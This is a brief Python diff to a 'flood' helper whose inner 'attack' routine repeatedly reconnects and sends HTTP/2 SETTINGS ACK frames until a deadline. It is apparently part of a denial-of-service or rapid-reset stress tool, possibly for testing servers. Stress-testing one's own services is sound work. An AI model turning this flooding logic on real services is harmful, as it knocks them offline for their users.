@@ -35,11 +35,11 @@ RESET = struct.pack(">L", 8)
 
 def flood(metadata: list[tuple[str, str]], *, reset: bool, seconds: float = FLOOD_SECONDS) -> Callable[[Wire], None]:
     """Calls again and again, and on a new connection when it is cut off."""
-    until = time.monotonic() + seconds
 
     def attack(wire: Wire) -> None:
+        until = time.monotonic() + seconds
         while time.monotonic() < until:
-            with suppress(OSError), Wire(wire.address) as again:
+            with suppress(OSError), wire.again() as again:
                 again.socket.settimeout(1)
                 again.send(frame(Type.SETTINGS, ACK, 0))
                 stream = 1
